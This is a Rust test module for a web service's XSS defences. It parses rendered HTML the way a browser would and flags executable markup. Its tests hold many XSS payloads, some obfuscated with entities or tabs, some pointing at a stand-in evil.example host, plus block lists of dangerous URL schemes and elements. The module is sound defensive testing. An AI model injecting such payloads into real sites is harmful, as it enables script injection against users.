//! Hostile input: a corpus of XSS payloads rendered on every surface that
//! shows what people write ([`surfaces`], [`search`], [`surfaces_more`]),
//! and requests built to break the service rather than use it
//! ([`requests`], [`bytes`], [`urls`]).
//!
//! "Inert" is checked on the parsed document, as a browser would build it
//! (html5ever, scripting on), not by looking for words: see [`hazards`].

mod bytes;
mod requests;
mod search;
mod surfaces;
mod surfaces_more;
mod urls;

use scraper::{ElementRef, Html};

/// The payloads of `hostile/payloads.txt`, one a line, with `{TAB}`, `{LF}`,
/// `{CR}` and `{FF}` standing for those characters.
pub fn payloads() -> Vec<String> {
    include_str!("hostile/payloads.txt")
        .lines()
        .filter(|line| !line.is_empty() && *line != "#" && !line.starts_with("# "))
        .map(|line| {
            line.replace("{TAB}", "\t")
                .replace("{LF}", "\n")
                .replace("{CR}", "\r")
                .replace("{FF}", "\u{c}")
        })
        .collect()
}

/// Consecutive payloads joined by `sep` into pieces of at most `max`
/// characters (white space collapsed, as one-line fields store it); a
/// payload longer than `max` on its own is left out.
pub fn packed(payloads: &[String], max: usize, sep: &str) -> Vec<String> {
    let mut pieces = Vec::new();
    let mut piece = String::new();
    for payload in payloads {
        let payload = payload.split_whitespace().collect::<Vec<_>>().join(" ");
        let len = payload.chars().count();
        if len > max {
            continue;
        }
        if !piece.is_empty() && piece.chars().count() + sep.chars().count() + len > max {
            pieces.push(std::mem::take(&mut piece));
        }
        if !piece.is_empty() {
            piece.push_str(sep);
        }
        piece.push_str(&payload);
    }
    if !piece.is_empty() {
        pieces.push(piece);
    }
    pieces
}

/// Where the service's own scripts come from.
const OWN_SCRIPTS: &str = "/static/";

/// URL schemes that run code or carry a document of their own.
const BAD_SCHEMES: [&str; 5] = ["javascript:", "vbscript:", "data:", "livescript:", "mocha:"];

/// Attributes holding a URL (or, for `srcset`, SVG animations and
/// `archive`, a list of them) that a browser follows or loads. Not `cite`,
/// `longdesc` or `usemap`, which no browser follows: the sanitiser keeps
/// `<blockquote cite="javascript:…">`, and that is inert.
const URL_ATTRIBUTES: [&str; 21] = [
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "codebase",
    "classid",
    "archive",
    "dynsrc",
    "lowsrc",
    "ping",
    "manifest",
    "icon",
    "srcset",
    "imagesrcset",
    "to",
    "from",
    "values",
    "by",
];

/// Elements the service never sends, each of which loads, runs, restyles
/// or reparses something.
const FOREIGN_ELEMENTS: [&str; 17] = [
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "template",
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "plaintext",
    "listing",
    "portal",
    "isindex",
    "param",
];

/// The SVG elements the service's own icons use.
const OWN_SVG: [&str; 9] = [
    "svg", "path", "g", "circle", "rect", "line", "polyline", "polygon", "ellipse",
];

const SVG: &str = "http://www.w3.org/2000/svg";
const MATHML: &str = "http://www.w3.org/1998/Math/MathML";

/// What a browser would follow: the value without ASCII white space and
/// control characters (which browsers skip in a scheme), lowercased.
fn url_scheme_view(value: &str) -> String {
    value
        .chars()
        .filter(|c| *c > ' ' && *c != '\u{7f}')
        .collect::<String>()
        .to_lowercase()
}

fn describe(element: ElementRef<'_>) -> String {
    let mut text = format!("<{}", element.value().name());
    for (name, value) in element.value().attrs() {
        text.push_str(&format!(" {name}={value:?}"));
    }
    text.push('>');
    text
}

/// Everything in `html` that could run code, load a foreign document or
/// take over the page, each described; empty when the markup is inert.
/// A whole page (it starts with a doctype or `<html>`) is parsed as a
/// document, anything else as a fragment inside `<body>`.
pub fn hazards(html: &str) -> Vec<String> {
    let start = html.trim_start().to_ascii_lowercase();
    let document = if start.starts_with("<!doctype") || start.starts_with("<html") {
        Html::parse_document(html)
    } else {
        Html::parse_fragment(html)
    };
    let mut found = Vec::new();
    for node in document.tree.nodes() {
        let Some(element) = ElementRef::wrap(node) else {
            continue;
        };
        let el = element.value();
        let name = el.name().to_ascii_lowercase();
        let parent = element
            .parent()
            .and_then(|p| p.value().as_element().map(|e| e.name().to_owned()))
            .unwrap_or_default();
        let mut bad = |why: &str| found.push(format!("{why}: {}", describe(element)));
        match &*el.name.ns {
            SVG if !OWN_SVG.contains(&el.name()) => bad("an SVG element the service never sends"),
            MATHML => bad("MathML"),
            _ => {}
        }
        match name.as_str() {
            "script" => {
                let own = el.attr("src").is_some_and(|src| {
                    src.starts_with(OWN_SCRIPTS)
                        && element.text().all(|text| text.trim().is_empty())
                });
                if !own || &*el.name.ns != "http://www.w3.org/1999/xhtml" {
                    bad("a script that is not the service's own");
                }
            }
            "base" if el.attr("href").is_some() => bad("a base URL"),
            "meta" if el.attr("http-equiv").is_some() || parent != "head" => {
                bad("a meta element outside the head or with http-equiv")
            }
            "link" if parent != "head" => bad("a link element outside the head"),
            "form" => {
                let action = el.attr("action").unwrap_or_default();
                if !action.starts_with('/') || action.starts_with("//") {
                    bad("a form that posts elsewhere than this site");
                }
            }
            other if FOREIGN_ELEMENTS.contains(&other) => bad("an element the service never sends"),
            _ => {}
        }
        for (key, value) in el.attrs.iter() {
            let attr = key.local.to_string().to_ascii_lowercase();
            let mut bad_attr = |why: &str| {
                found.push(format!(
                    "{why} ({attr}={:?}): {}",
                    &**value,
                    describe(element)
                ))
            };
            if attr.starts_with("on") {
                bad_attr("an event handler");
            } else if attr == "style" {
                bad_attr("an inline style");
            } else if attr == "srcdoc" {
                bad_attr("a document in an attribute");
            } else if URL_ATTRIBUTES.contains(&attr.as_str()) || attr.ends_with(":href") {
                let view = url_scheme_view(value);
                let list = matches!(
                    attr.as_str(),
                    "srcset" | "imagesrcset" | "archive" | "values" | "to" | "from" | "by"
                );
                let urls: Vec<&str> = if list {
                    view.split([',', ';']).collect()
                } else {
                    vec![view.as_str()]
                };
                if urls
                    .iter()
                    .any(|url| BAD_SCHEMES.iter().any(|scheme| url.starts_with(scheme)))
                {
                    bad_attr("a URL that runs code");
                }
            }
        }
    }
    found
}

/// Panics, naming the surface and each offender, when `html` holds markup
/// that could run, load or take over anything.
pub fn assert_inert(html: &str, surface: &str) {
    let found = hazards(html);
    assert!(
        found.is_empty(),
        "{surface}: executable markup survived:\n  {}",
        found.join("\n  ")
    );
}

/// The text of the elements `selector` picks, each decoded and trimmed.
pub fn texts(html: &str, selector: &str) -> Vec<String> {
    let selector = scraper::Selector::parse(selector).expect("a valid selector");
    Html::parse_document(html)
        .select(&selector)
        .map(|e| e.text().collect::<String>().trim().to_owned())
        .collect()
}

/// The values of `attr` on the elements `selector` picks, decoded.
pub fn attrs(html: &str, selector: &str, attr: &str) -> Vec<String> {
    let selector = scraper::Selector::parse(selector).expect("a valid selector");
    Html::parse_document(html)
        .select(&selector)
        .filter_map(|e| e.value().attr(attr).map(str::to_owned))
        .collect()
}

#[test]
fn the_corpus_has_over_a_hundred_distinct_payloads() {
    let all = payloads();
    let distinct: std::collections::HashSet<&String> = all.iter().collect();
    assert!(all.len() >= 100, "{} payloads", all.len());
    assert_eq!(distinct.len(), all.len(), "every payload once");
    assert!(
        all.iter().any(|p| p.contains('\t')),
        "the placeholders work"
    );
}

#[test]
#[should_panic(expected = "an event handler (onerror=\"alert(1)\")")]
fn the_checker_fails_on_an_image_with_an_error_handler() {
    assert_inert(
        "<p>Hallo <img src=x onerror=alert(1)></p>",
        "a test fragment",
    );
}

#[test]
fn the_checker_finds_each_kind_of_live_markup_and_passes_escaped_text() {
    for live in [
        "<script>alert(1)</script>",
        "<script src=\"/static/page.js\">alert(1)</script>",
        "<script src=\"//evil.example/x.js\"></script>",
        "<svg onload=alert(1)>",
        "<svg><script href=\"/static/x.js\"></script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><set attributeName=href to=\"javascript:alert(1)\"/></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\" JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img srcset=\"/a.png 1x, javascript:alert(1) 2x\">",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<iframe src=\"https://x.example\"></iframe>",
        "<object data=\"x.swf\"></object>",
        "<embed src=\"x.swf\">",
        "<form action=\"https://evil.example\"><input name=p></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<base href=\"https://evil.example/\">",
        "<style>body{}</style>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
    ] {
        assert!(!hazards(live).is_empty(), "not found in {live}");
    }
    for inert in [
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; en &lt;img src=x onerror=alert(1)&gt;</p>",
        "<p><a href=\"https://x.example/\" rel=\"noopener noreferrer nofollow\">onload</a></p>",
        "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">javascript:alert(1)</p>",
        "<mark>script</mark> data: <code>&lt;svg onload=alert(1)&gt;</code>",
        "<!doctype html><html><head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/static/style.css\"><script type=\"module\" src=\"/static/page.js?v=1\"></script></head><body><svg viewBox=\"0 0 24 24\"><path d=\"M6 8\"/></svg><form method=\"post\" action=\"/language\"></form></body></html>",
    ] {
        assert_eq!(hazards(inert), Vec::<String>::new(), "{inert}");
    }
}
